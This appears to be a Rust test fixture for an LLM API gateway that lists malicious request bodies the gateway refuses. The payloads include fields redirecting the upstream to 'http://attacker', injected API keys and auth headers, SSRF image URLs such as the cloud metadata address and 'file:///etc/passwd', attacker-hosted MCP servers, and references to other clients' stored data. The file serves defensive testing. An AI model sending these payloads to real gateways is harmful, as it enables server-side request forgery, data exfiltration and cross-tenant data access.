//! Attacks by bodies that ask for more than a model's words. Some have fields that are orders to LiteLLM, or media and
//! tools that reach further than the model. Others name objects that other clients left there.

use platform_core::{capability::Capability, refusal::Refusal};
use serde_json::{Value, json};

use super::CHAT;

const MESSAGES: &str = "/v1/messages";
const RESPONSES: &str = "/v1/responses";
const COMPACT: &str = "/v1/responses/compact";
const COUNT: &str = "/v1/responses/input_tokens";

/// An attack: where it goes, the member that makes it one, why it is refused, and what would have to be granted.
pub(crate) type Attack = (&'static str, &'static str, Value, Refusal, Option<Capability>);

fn content(part: Value) -> Value {
    json!([{ "role": "user", "content": [part] }])
}

/// Returns fields that no agent may set, and shapes that two parsers could read differently.
pub(crate) fn fields() -> Vec<Attack> {
    use Refusal::{BodyInvalid, FieldUnknown};
    let unknown = |path, member, value| (path, member, value, FieldUnknown, None);
    let invalid = |path, member, value| (path, member, value, BodyInvalid, None);
    vec![
        unknown(CHAT, "no-log", json!(true)),
        unknown(CHAT, "fallbacks", json!(["other"])),
        unknown(CHAT, "context_window_fallbacks", json!([{ "fake": ["other"] }])),
        unknown(CHAT, "mock_response", json!("free")),
        unknown(CHAT, "api_base", json!("http://attacker")),
        unknown(CHAT, "base_url", json!("http://attacker")),
        unknown(CHAT, "api_key", json!("sk-attacker")),
        unknown(CHAT, "custom_llm_provider", json!("openai")),
        unknown(CHAT, "input_cost_per_token", json!(0)),
        unknown(CHAT, "litellm_metadata", json!({ "tags": ["free"] })),
        unknown(CHAT, "tags", json!(["free"])),
        unknown(CHAT, "guardrails", json!([])),
        unknown(CHAT, "extra_headers", json!({ "authorization": "Bearer attacker" })),
        unknown(CHAT, "headers", json!({ "authorization": "Bearer attacker" })),
        unknown(CHAT, "user_config", json!({ "model_list": [] })),
        unknown(CHAT, "cache", json!({ "ttl": 9 })),
        unknown(CHAT, "turn_off_message_logging", json!(true)),
        unknown(MESSAGES, "num_retries", json!(99)),
        unknown(MESSAGES, "user", json!("victim")),
        unknown(MESSAGES, "litellm_session_id", json!("victim")),
        unknown(RESPONSES, "extra_body", json!({})),
        unknown(RESPONSES, "langfuse_host", json!("http://attacker")),
        unknown(RESPONSES, "Model", json!("other")),
        invalid(CHAT, "model", json!("fake,other")),
        invalid(CHAT, "model", json!(["fake", "other"])),
        invalid(CHAT, "stream", json!("true")),
        invalid(CHAT, "messages", json!("Hello")),
        invalid(CHAT, "max_tokens", json!(-1)),
    ]
}

/// Returns fields that make the upstream or a provider fetch, run or search something for the agent.
pub(crate) fn egress() -> Vec<Attack> {
    use Capability as May;
    let egress = |path, member, value, may| (path, member, value, Refusal::NotGranted, Some(may));
    let part = |path: &'static str, part: Value| {
        let member = if path == RESPONSES { "input" } else { "messages" };
        egress(path, member, content(part), May::MediaUrls)
    };
    let image = |url: &str| part(CHAT, json!({ "type": "image_url", "image_url": { "url": url } }));
    let source = |kind: &str| {
        let source = json!({ "type": "url", "url": "http://attacker" });
        part(MESSAGES, json!({ "type": kind, "source": source }))
    };
    let tool = |path, kind: &str, may| {
        let tool = json!({ "type": kind, "name": "a", "server_label": "a", "server_url": "http://attacker" });
        egress(path, "tools", json!([tool]), may)
    };
    let group = |tools: Value| json!([{ "type": "namespace", "name": "a", "tools": tools }]);
    let more = |kind: &str, tools: Value| json!([{ "type": kind, "role": "developer", "tools": tools }]);
    let mcp = || json!([{ "type": "mcp", "server_label": "a", "server_url": "http://attacker" }]);
    let search = json!([{ "type": "tool_search", "execution": "server" }]);
    vec![
        image("http://169.254.169.254/latest"),
        image("https://attacker/?q=secret"),
        image("gs://bucket/object"),
        image("file:///etc/passwd"),
        image("//attacker/x"),
        part(CHAT, json!({ "type": "file", "file": { "file_data": "http://attacker/a.pdf" } })),
        source("image"),
        source("document"),
        part(RESPONSES, json!({ "type": "input_image", "image_url": "http://attacker" })),
        part(RESPONSES, json!({ "type": "input_file", "file_url": "http://attacker" })),
        egress(CHAT, "web_search_options", json!({}), May::WebSearch),
        tool(CHAT, "mcp", May::Mcp),
        tool(RESPONSES, "mcp", May::Mcp),
        tool(RESPONSES, "web_search_preview", May::WebSearch),
        tool(RESPONSES, "code_interpreter", May::ServerTools),
        tool(RESPONSES, "local_shell", May::ServerTools),
        tool(MESSAGES, "web_search_20250305", May::WebSearch),
        tool(MESSAGES, "web_fetch_20250910", May::WebSearch),
        tool(MESSAGES, "code_execution_20250825", May::ServerTools),
        egress(RESPONSES, "background", json!(true), May::Background),
        egress(MESSAGES, "mcp_servers", json!([{ "type": "url", "url": "http://attacker" }]), May::Mcp),
        egress(MESSAGES, "container", json!("container_1"), May::ServerTools),
        egress(RESPONSES, "tools", group(mcp()), May::Mcp),
        egress(RESPONSES, "tools", group(group(json!([{ "type": "web_search" }]))), May::WebSearch),
        egress(RESPONSES, "tools", search, May::ServerTools),
        egress(RESPONSES, "input", more("additional_tools", mcp()), May::Mcp),
        egress(RESPONSES, "input", more("additional_tools", group(mcp())), May::Mcp),
        egress(RESPONSES, "input", more("tool_search_output", json!([])), May::ServerTools),
    ]
}

/// Returns fields that refer to data that other clients stored upstream.
pub(crate) fn stored() -> Vec<Attack> {
    use Capability as May;
    let stored = |path, member, value, may| (path, member, value, Refusal::NotGranted, Some(may));
    let part = |path: &'static str, part: Value| {
        let member = if path == RESPONSES { "input" } else { "messages" };
        stored(path, member, content(part), May::StoredFiles)
    };
    let search = json!([{ "type": "file_search", "vector_store_ids": ["vs_1"] }]);
    let spoken = json!([{ "role": "assistant", "audio": { "id": "audio_1" } }]);
    vec![
        stored(RESPONSES, "previous_response_id", json!("resp_1"), May::StoredResponses),
        stored(COMPACT, "previous_response_id", json!("resp_1"), May::StoredResponses),
        stored(COMPACT, "input", json!([{ "id": "msg_1" }]), May::StoredResponses),
        stored(COUNT, "previous_response_id", json!("resp_1"), May::StoredResponses),
        stored(COUNT, "conversation", json!("conv_1"), May::StoredResponses),
        stored(RESPONSES, "conversation", json!("conv_1"), May::StoredResponses),
        stored(RESPONSES, "conversation", json!({ "id": "conv_1" }), May::StoredResponses),
        stored(
            RESPONSES,
            "input",
            json!([{ "type": "item_reference", "id": "msg_1" }]),
            May::StoredResponses,
        ),
        stored(RESPONSES, "input", json!([{ "id": "msg_1" }]), May::StoredResponses),
        stored(RESPONSES, "prompt", json!({ "id": "pmpt_1" }), May::StoredPrompts),
        part(RESPONSES, json!({ "type": "input_image", "file_id": "file-1" })),
        part(RESPONSES, json!({ "type": "input_file", "file_id": "file-1" })),
        stored(RESPONSES, "tools", search, May::StoredFiles),
        part(CHAT, json!({ "type": "file", "file": { "file_id": "file-1" } })),
        stored(CHAT, "messages", spoken, May::StoredFiles),
        part(MESSAGES, json!({ "type": "image", "source": { "type": "file", "file_id": "file_1" } })),
        part(MESSAGES, json!({ "type": "container_upload", "file_id": "file_1" })),
    ]
}
